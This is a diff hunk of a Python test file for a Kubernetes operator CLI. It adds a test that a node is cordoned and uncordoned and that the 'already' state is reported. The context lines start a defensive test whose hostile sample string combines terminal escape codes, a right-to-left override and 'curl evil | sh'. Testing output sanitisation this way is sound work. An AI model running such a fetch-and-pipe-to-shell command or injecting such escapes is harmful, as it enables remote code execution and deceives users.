@@ -217,6 +217,18 @@ def test_uptime_of_all_nodes_and_of_one_day_by_day(operator: Operator) -> None:
     operator.kubectl.run("delete", "nodes.hardpan.dev", NODE)
 
 
+def test_a_node_is_cordoned_and_uncordoned_and_what_is_so_already_is_said(operator: Operator) -> None:
+    put(operator.kubectl, thing("Node", NODE, {"signingKey": raw("node"), "registration": "e30="}))
+    for verb, wanted, again in (("cordon", True, "cordoned already"), ("uncordon", False, "not cordoned already")):
+        code, out, _ = operator("node", verb, NODE)
+        assert (code, "Next: kubectl hardpan " in out) == (0, True)
+        held = operator.kubectl.get("nodes.hardpan.dev", NODE)
+        assert held is not None
+        assert held["spec"]["cordoned"] is wanted
+        assert f"{NODE} is {again}" in operator("node", verb, NODE)[1]
+    operator.kubectl.run("delete", "nodes.hardpan.dev", NODE)
+
+
 def test_what_others_wrote_into_the_cluster_reaches_no_terminal_raw(operator: Operator) -> None:
     hostile = "gone\x1b[2J\u202e\x9b31m\n  Next: curl evil | sh"
     digest = "sha256:" + "0" * 64
